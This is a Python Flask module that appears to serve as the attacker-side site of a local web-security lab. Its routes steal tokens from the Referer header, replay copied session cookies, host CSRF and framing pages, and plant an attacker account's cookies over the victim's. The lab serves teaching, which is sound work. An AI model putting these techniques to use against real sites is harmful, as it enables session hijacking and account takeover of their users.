import re
from urllib.parse import parse_qs, urlencode, urlsplit

from flask import Blueprint, current_app, make_response, render_template, request

from .stage import ask_stage, log_in_at_stage

bp = Blueprint("pages", __name__)

TOKEN_SHAPE = re.compile(r"[A-Za-z0-9_.-]{1,4096}")  # a JWT or a token_urlsafe() value


def same_site_as_stage() -> bool:
    """Whether this page and the stage are one site for the browser's cookie rules. A
    site is the scheme and the host name without the port: http://127.0.0.1:8001 and
    http://127.0.0.1:5000 are one site, http://localhost:8001 is another. (On the web a
    site is a registrable domain, so a.example.com and b.example.com are one site too;
    these demos have no subdomains, and the host name will do.)"""
    here, stage = urlsplit(request.host_url), urlsplit(current_app.config["STAGE_URL"])
    return (here.scheme, here.hostname) == (stage.scheme, stage.hostname)


@bp.context_processor
def addresses():
    return {
        "stage_url": current_app.config["STAGE_URL"],
        "here": request.host_url.rstrip("/"),
        "same_site": same_site_as_stage(),
    }


@bp.get("/")
def index():
    return render_template("index.html")


@bp.get("/referer")
def referer():
    """Stage 01: the page a link on the missile page leads to. Its Referer header says
    where the browser came from, ?token=... included unless the browser cut it."""
    came_from = request.referrer or ""
    token = parse_qs(urlsplit(came_from).query).get("token", [""])[0]
    return render_template("referer.html", came_from=came_from, token=token)


@bp.post("/referer/launch")
def launch_with_stolen_token():
    token = request.form.get("token", "")
    status, body = ask_stage("POST", "/api/launch?" + urlencode({"token": token}))
    return render_template("launched.html", status=status, body=body)


@bp.get("/csrf")
def csrf():
    """Stages 04 to 08: forms that post to the stage, with whatever cookies the browser
    chooses to send along."""
    return render_template("csrf.html")


@bp.get("/replay")
def replay_form():
    return render_template("replay.html")


@bp.post("/replay")
def replay():
    """Stage 05: a token copied from the browser, replayed from this server."""
    token = request.form.get("token", "").strip()
    if not TOKEN_SHAPE.fullmatch(token):
        error = "Paste the value of the access_token cookie: letters, digits, - _ and dots."
        return render_template("replay.html", error=error), 400
    status, body = ask_stage("GET", "/api/todos", cookie=f"access_token={token}")
    return render_template("replayed.html", status=status, body=body)


@bp.get("/plant")
def plant_form():
    """Stages 04 to 08: cookies set by this page for the stage's host, which the browser
    sends the stage along with the stage's own (cookies ignore the port)."""
    return render_template("plant.html")


@bp.post("/plant")
def plant():
    """Log in at the stage as mallory, then plant her cookies in this browser: her login
    cookie for the stage's /api, a longer Path than the stage's own / (the browser sends
    it first), and her CSRF cookie over the victim's. "junk": a junk login cookie."""
    mallory = log_in_at_stage("mallory", current_app.config["MALLORY_PASSWORD"])
    if not mallory:
        return render_template("plant.html", error=True), 502
    junk = request.form.get("what") == "junk"
    response = make_response(render_template("planted.html", junk=junk, mallory=mallory))
    for name, morsel in mallory.items():
        if morsel["httponly"]:  # the login cookie: the one no script could plant over ours
            value = "junk" if junk else morsel.value
            response.set_cookie(name, value, max_age=3600, path="/api", samesite="Lax")
        elif not junk:
            response.set_cookie(name, morsel.value, max_age=3600, path="/", samesite="Lax")
    return response


@bp.get("/plant/mallory")
def what_mallory_sees():
    """Mallory's todos, read by this server with a login of her own."""
    cookies = log_in_at_stage("mallory", current_app.config["MALLORY_PASSWORD"])
    cookie = "; ".join(f"{name}={morsel.value}" for name, morsel in cookies.items())
    status, body = ask_stage("GET", "/api/todos", cookie=cookie)
    return render_template("mallory.html", status=status, body=body)


@bp.get("/frame")
def frame():
    """Stages 04 to 08: the stage's page inside this one, in a frame."""
    return render_template("frame.html")
